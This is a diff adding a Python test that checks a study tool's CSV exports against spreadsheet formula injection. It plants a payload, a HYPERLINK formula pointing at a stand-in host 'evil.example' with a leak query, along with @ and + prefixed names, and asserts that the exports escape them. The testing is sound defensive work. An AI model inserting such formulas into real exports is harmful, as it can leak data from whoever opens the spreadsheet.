@@ -33,3 +33,38 @@ def test_markdown_word_and_csv_drop_escape_sequences(fresh_study, tmp_path):
     with out.open(encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.DictReader(fh))
     assert stage.name in {r["code"] for r in rows} and not any("\x1b" in v for r in rows for v in r.values())
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
+
+
+def _csv_cells(path):
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        return [cell for row in csv.reader(fh) for cell in row]
+
+
+def test_every_csv_that_leaves_the_study_is_formula_safe(fresh_study, tmp_path):
+    """Issue 19 item 4: the matrix CSV and the workshop cards CSV wrote a `=HYPERLINK(…)` attribute value and
+    code name raw, where the codings CSV already neutralised them."""
+    from exports.matrix_csv import write_matrix
+    from exports.workshop import write_kit
+
+    store, _ids = fresh_study
+    store.set_participant_attribute("Ben Carter", "segment", FORMULA)
+    stage = store.stages()[0]
+    store.update_code(stage.id, name=f"@{stage.name}")
+    pain = next(c for c in store.codes() if c.kind == "pain_point")
+    store.update_code(pain.id, name=f"+{pain.name}")
+    outputs = {"codings": tmp_path / "codings.csv", "matrix": tmp_path / "matrix.csv",
+               "cards": tmp_path / "cards.csv"}
+    write_csv(store, outputs["codings"], anonymize=False)
+    write_matrix(store, outputs["matrix"], rows="codes", cols="attr:segment", anonymize=False)
+    write_kit(store, tmp_path / "kit.docx", anonymize=False, csv_path=outputs["cards"])
+    for name, path in outputs.items():
+        cells = _csv_cells(path)
+        assert cells, name
+        assert not [c for c in cells if c.startswith(("=", "+", "@", "-"))], name
+    matrix = _csv_cells(outputs["matrix"])
+    assert "'" + FORMULA in matrix and f"'@{stage.name} (stage)" in matrix
+    assert any(c.startswith(f"'+{pain.name}") for c in matrix)
+    assert f"'@{stage.name}" in _csv_cells(outputs["cards"])
